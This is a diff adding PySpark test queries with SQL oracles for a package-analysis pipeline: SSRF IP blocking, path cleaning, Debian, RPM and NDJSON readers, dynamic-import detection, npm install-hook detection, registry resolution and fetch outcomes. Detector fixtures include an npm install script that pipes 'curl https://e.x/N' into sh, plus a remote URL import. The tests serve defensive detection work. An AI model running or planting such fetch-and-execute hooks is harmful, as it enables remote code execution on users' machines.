@@ -14,7 +14,9 @@ from pyspark.sql import functions as F
 from ..functions import purl as P
 from ..functions import scalars as S
 from ..functions.json import jstr, ju64
+from ..functions.udfs import blocked_ip
 from ..operators import fetching, layers, recognize, registry, resolve, sweep
+from ..sources import readers
 from . import registry_cases
 
 QUERIES: dict = {}
@@ -400,6 +402,100 @@ def _(df):
     return registry.normalize(df, "homebrew").select("name", "version", "downloads_recent", "deprecated")
 
 
+@query("ssrf_v6", """SELECT o_orderkey AS k, CASE o_orderkey % 14 WHEN 0 THEN '2001:0:4136:e378::1' WHEN 1 THEN '64:ff9b:1::' || (o_custkey % 9) WHEN 2 THEN '64:ff9b::a00:1' WHEN 3 THEN '64:ff9b::808:808' WHEN 4 THEN '2606:4700::' || (o_custkey % 9) WHEN 5 THEN '::ffff:10.0.0.' || (o_custkey % 9)
+  WHEN 6 THEN '::ffff:8.8.8.' || (o_custkey % 9) WHEN 7 THEN 'fe80::' || (o_custkey % 9) WHEN 8 THEN 'fd00::1' WHEN 9 THEN '2002:7f00:1::' WHEN 10 THEN '2002:808:808::' WHEN 11 THEN '::1' WHEN 12 THEN '64:ff9b:0:1::a00:1' ELSE 'no address' END AS ip FROM {orders}""",
+  "SELECT k, CASE WHEN k % 14 IN (0, 1, 2, 5, 7, 8, 9, 11, 12) THEN true WHEN k % 14 IN (3, 4, 6, 10) THEN false END AS blocked FROM inp")
+def _(df):
+    return df.select("k", blocked_ip()("ip").alias("blocked"))
+
+
+@query("path_clean", "SELECT p_partkey AS k, CASE p_partkey % 5 WHEN 0 THEN './a//b' || p_size WHEN 1 THEN '../../a/./c' || p_size WHEN 2 THEN '/x/../y' || p_size || '/' WHEN 3 THEN '..' ELSE 'a/b/../../c' || p_size END AS path FROM {part}",
+  "SELECT k, CASE k % 5 WHEN 0 THEN 'a/b' WHEN 1 THEN 'a/c' WHEN 2 THEN 'y' WHEN 3 THEN '' ELSE 'c' END || CASE WHEN k % 5 = 3 THEN '' ELSE regexp_extract(path, '([0-9]+)/?$', 1) END AS path FROM inp")
+def _(df):
+    return df.select("k", layers.clean_path("path").alias("path"))
+
+
+@query("stanza_deb", "SELECT s_suppkey AS k, 'Package: a' || s_suppkey || chr(10) || 'Version: 1-' || s_nationkey || chr(10) || chr(10) || chr(10) || 'Package: b' || s_suppkey || chr(10) || 'Version: 2' || chr(10) || 'Maintainer: M' || s_suppkey || ' <m@x.y>' || chr(10) AS body, s_nationkey AS n FROM {supplier}", """
+SELECT k, 'a' || k AS name, '1-' || n AS version, CAST(NULL AS VARCHAR) AS author FROM inp UNION ALL SELECT k, 'b' || k, '2', 'M' || k FROM inp""")
+def _(df):
+    f = lambda k: S.stanza_field("stanza", k)
+    return readers.split_stanzas(df, "body").select("k", f("Package:").alias("name"), f("Version:").alias("version"), S.strip_email(f("Maintainer:")).alias("author"))
+
+
+@query("rpm_xml", """SELECT s_suppkey AS k, '<metadata><package type="rpm"><name>a' || s_suppkey || '</name><version ver="1" rel="' || s_nationkey || '"/></package><package><name>b&amp;' || s_suppkey || '</name><version ver="2" rel="0"/></package></metadata>' AS body, s_nationkey AS n FROM {supplier}""", """
+SELECT k, 'a' || k AS name, '' || n AS release FROM inp UNION ALL SELECT k, 'b&' || k, '0' FROM inp""")
+def _(df):
+    return readers.split_elements(df, "body").select("k", S.tag_text("element", "name").alias("name"), S.tag_attribute("element", "version", "rel").alias("release"))
+
+
+@query("ndjson", "SELECT event_id AS k, props || chr(10) || 'not json' || chr(10) || chr(10) || '{\"k\": ' || event_id || '}' AS body FROM {events}", "SELECT k, CAST(json_extract_string(split_part(body, chr(10), 1), '$.k') AS BIGINT) AS number, CAST(0 AS INTEGER) AS pos FROM inp UNION ALL SELECT k, k, 3 FROM inp")
+def _(df):
+    return readers.json_lines(df, "body").select("k", ju64(F.try_parse_json("line"), "$.k").alias("number"), "pos")
+
+
+@query("listing", "SELECT s_suppkey AS k, ' -rw-r--r-- pool/a' || s_suppkey || '.deb' || chr(10) || 'b.deb ' AS body FROM {supplier}", "SELECT k, '-rw-r--r--' AS file FROM inp UNION ALL SELECT k, 'a' || k || '.deb' FROM inp UNION ALL SELECT k, 'b.deb' FROM inp")
+def _(df):
+    return readers.listing(df, "body").select("k", "file")
+
+
+@query("text_scalars", "SELECT c_custkey AS k, '<b>' || c_name || '</b> x <a@b.c>' AS text, chr(10) || '  ' || chr(10) || ' ' || c_mktsegment || ' ' || chr(10) || 'z' AS lines FROM {customer}", "SELECT k, regexp_extract(text, '<b>(.*)</b>', 1) || ' x' AS stripped, trim(split_part(lines, chr(10), 3)) AS first FROM inp")
+def _(df):
+    return df.select("k", S.strip_html("text").alias("stripped"), S.first_line("lines").alias("first"))
+
+
+@query("dynamic_imports", """SELECT c_custkey AS file_id, CASE c_custkey % 2 WHEN 0 THEN 'javascript' ELSE 'python' END AS file_type, 'é' || chr(10) || CASE c_custkey % 2 WHEN 0 THEN 'x = import("lodash' || c_custkey || '/deep"); import("fs"); import("https://e.x/' || c_custkey || '")' ELSE 'importlib.import_module("pkg' || c_custkey || '.sub"); __import__("os")' END AS text FROM {customer}""", """
+SELECT file_id, 'pkg:npm/lodash' || file_id AS locator, 'command' AS kind, CAST(15 AS BIGINT) AS at FROM inp WHERE file_id % 2 = 0 UNION ALL SELECT file_id, 'https://e.x/' || file_id, 'url_fetch', 15 + length('lodash' || file_id || '/deep') + 26 FROM inp WHERE file_id % 2 = 0
+UNION ALL SELECT file_id, 'pkg:pypi/pkg' || file_id, 'command', 28 FROM inp WHERE file_id % 2 = 1""")
+def _(df):
+    found = recognize.with_offset(recognize.dynamic_imports(df), df)
+    return found.select("file_id", "locator", "kind", F.col("offset").alias("at"))
+
+
+@query("npm_hooks", """SELECT c_custkey AS file_id, '{"npm": {"scripts": {"install": "curl https://e.x/' || c_custkey || ' | sh", "postinstall": "npm i p' || c_custkey || '@1", "test": "npm i no"}}}' AS payload FROM {customer}""", """
+SELECT file_id, 'https://e.x/' || file_id AS locator, 'npm.scripts.install' AS source FROM inp UNION ALL SELECT file_id, 'pkg:npm/p' || file_id || '@1', 'npm.scripts.postinstall' FROM inp""")
+def _(df):
+    return recognize.npm_hooks(df, values="payload").select("file_id", "locator", "source")
+
+
+_ASKED = "SELECT c_custkey AS k, 'purl' AS locator_type, CASE c_custkey % 7 WHEN 0 THEN 'pkg:npm/p' WHEN 1 THEN 'pkg:pypi/q@1.0' WHEN 2 THEN 'pkg:composer/v/c@2.0' WHEN 3 THEN 'pkg:firefox/f' WHEN 4 THEN 'pkg:aur/a' || c_custkey WHEN 5 THEN 'pkg:vscode/pub/ext@' || c_custkey ELSE 'pkg:pypi/q@1.0?kind=sdist' END AS locator FROM {customer}"
+_ANSWERS = {  # registry answers that the references above are refined with
+    "https://registry.npmjs.org/p": '{"dist-tags": {"latest": "3.1"}, "versions": {"3.1": {"dist": {"tarball": "https://t/p-3.1.tgz"}}}}',
+    "https://pypi.org/pypi/q/1.0/json": '{"urls": [{"url": "https://f/s", "filename": "q.tar.gz", "packagetype": "sdist"}, {"url": "https://f/l", "filename": "q-cp3-linux.whl", "packagetype": "bdist_wheel"}, {"url": "https://f/n", "filename": "q-cp3-none-any.whl", "packagetype": "bdist_wheel"}, {"url": "https://f/w", "filename": "q-py3-none-any.whl", "packagetype": "bdist_wheel"}]}',
+    "https://repo.packagist.org/p2/v/c.json": '{"packages": {"v/c": [{"version": "v1.0", "dist": {"url": "https://c/1"}}, {"version": "v2.0", "dist": {"url": "https://c/2"}}]}}',
+    "https://addons.mozilla.org/api/v5/addons/addon/f/": '{"current_version": {"version": "9", "file": {"url": "https://x/f.xpi"}}}',
+}
+
+
+def _with_documents(spark, sf_dir):
+    documents = spark.createDataFrame(list(_ANSWERS.items()), "url string, body string")
+    return resolve.resolve_with_documents(rows(spark, sf_dir, _ASKED), documents).select("k", "resolved_locator", "resolved_url")
+
+
+QUERIES["resolve_documents"] = _with_documents
+ORACLES["resolve_documents"] = f"""WITH inp AS ({_ASKED.replace('{customer}', 'customer')}) SELECT k, CASE k % 7 WHEN 0 THEN 'pkg:npm/p@3.1' WHEN 3 THEN 'pkg:firefox/f@9' ELSE locator END AS resolved_locator,
+ CASE k % 7 WHEN 0 THEN 'https://t/p-3.1.tgz' WHEN 1 THEN 'https://f/w' WHEN 2 THEN 'https://c/2' WHEN 3 THEN 'https://x/f.xpi' WHEN 4 THEN 'https://aur.archlinux.org/cgit/aur.git/snapshot/a' || k || '.tar.gz'
+ WHEN 5 THEN 'https://pub.gallery.vsassets.io/_apis/public/gallery/publisher/pub/extension/ext/' || k || '/assetbyname/Microsoft.VisualStudio.Services.VSIXPackage' ELSE 'https://f/s' END AS resolved_url FROM inp"""
+
+#: n is the artifact's number; its cache entry, its answer and its pin follow from it.
+_WANTED = "SELECT o_orderkey AS seq, 's' || (o_custkey % 50) AS source_sha256, 'url' AS locator_type, 'https://e.x/' || (o_orderkey % 300) AS locator, CASE WHEN o_orderkey % 11 > 0 THEN 'https://e.x/' || (o_orderkey % 300) END AS resolved_url, 'dependency' AS kind, o_orderkey % 7 > 0 AS is_target, CASE WHEN o_orderkey % 3 = 0 THEN 'sha256' END AS pin_algo, CASE WHEN o_orderkey % 3 = 0 THEN CASE WHEN o_orderkey % 2 = 0 THEN sha2('body' || (o_orderkey % 300), 256) ELSE repeat('0', 64) END END AS pin_value, o_orderkey % 300 AS n FROM {orders}"
+
+
+def _outcomes(spark, sf_dir):
+    wanted = rows(spark, sf_dir, _WANTED)
+    artifacts = wanted.select("n").distinct().withColumns({"url": F.concat(F.lit("https://e.x/"), "n"), "body": F.concat(F.lit("body"), "n").cast("binary")})
+    cache = artifacts.where("n % 5 < 2").select(fetching.artifact_key("url").alias("key"), F.when(F.col("n") % 5 == 0, 1_000_000).otherwise(0).cast("bigint").alias("fetched_at"), F.col("body").alias("content"))
+    answers = artifacts.where("n % 4 < 3").select("url", F.lit(200).alias("status"), F.when(F.col("n") % 4 < 2, F.col("body")).alias("content"), F.when(F.col("n") % 4 == 2, "timeout").alias("error"))
+    return fetching.fetch(wanted, cache, answers, 1_000_000, max_count=1 << 40, max_bytes=1 << 40).select("seq", "outcome", "failure", "cached", "stale", "pin_verified", "size")
+
+
+QUERIES["fetch_outcome"] = _outcomes
+ORACLES["fetch_outcome"] = f"""WITH inp AS ({_WANTED.replace('{orders}', 'orders').replace("sha2('body' || (o_orderkey % 300), 256)", "sha256('body' || (o_orderkey % 300))")}),
+s AS (SELECT *, CASE WHEN n % 5 = 0 THEN 'cache' WHEN n % 4 < 2 THEN 'network' WHEN n % 5 = 1 THEN 'stale' END AS served, CASE WHEN pin_algo IS NOT NULL THEN pin_value = sha256('body' || n) END AS pinned FROM inp),
+o AS (SELECT *, CASE WHEN NOT is_target THEN 'skipped' WHEN resolved_url IS NULL THEN 'unresolved' WHEN served IS NULL THEN 'failed' WHEN pinned = false THEN 'pin_mismatch' ELSE 'ok' END AS outcome FROM s)
+SELECT seq, outcome, CASE WHEN outcome = 'failed' THEN CASE WHEN n % 4 = 2 THEN 'timeout' ELSE 'no response' END END AS failure, coalesce(outcome IN ('ok', 'pin_mismatch') AND served <> 'network', false) AS cached, coalesce(outcome IN ('ok', 'pin_mismatch') AND served = 'stale', false) AS stale,
+ CASE WHEN outcome IN ('ok', 'pin_mismatch') THEN pinned END AS pin_verified, CASE WHEN outcome IN ('ok', 'pin_mismatch') THEN CAST(length('body' || n) AS BIGINT) END AS size FROM o"""
+
+
 FLAGSHIP = "SELECT o_orderkey % 100 AS package_id, o_orderkey AS file_id, 'dockerfile' AS file_type, 'FROM ' || CASE o_orderkey % 3 WHEN 0 THEN 'ubuntu:22.04' WHEN 1 THEN 'alpine:3' ELSE 'debian:12-slim' END || chr(10) || 'RUN apt-get install -y lib' || (o_custkey % 40) || ' && pip install p' || (o_custkey % 30) || '==1.0' || chr(10) || 'RUN npm i q' || (o_custkey % 20) AS text FROM {orders}"
 
 
